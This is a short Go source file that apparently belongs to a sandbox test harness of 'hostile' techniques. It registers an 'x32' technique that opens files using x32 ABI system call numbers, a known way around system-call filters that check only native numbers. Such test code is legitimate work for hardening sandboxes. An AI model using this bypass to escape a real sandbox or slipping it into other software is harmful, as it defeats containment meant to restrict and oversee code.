package main

import (
	"syscall"

	"example.com/hostile/attack"
)

func init() { techniques["x32"] = tryX32 }

// tryX32 opens files by the system call numbers of the x32 ABI.
func tryX32() {
	const x32 = 1 << 30
	for _, way := range attack.Ways {
		attack.Write(way, func(path, flags uintptr) int { return way(x32|syscall.SYS_OPEN, path, flags, 0o666, 0, 0, 0) })
	}
}
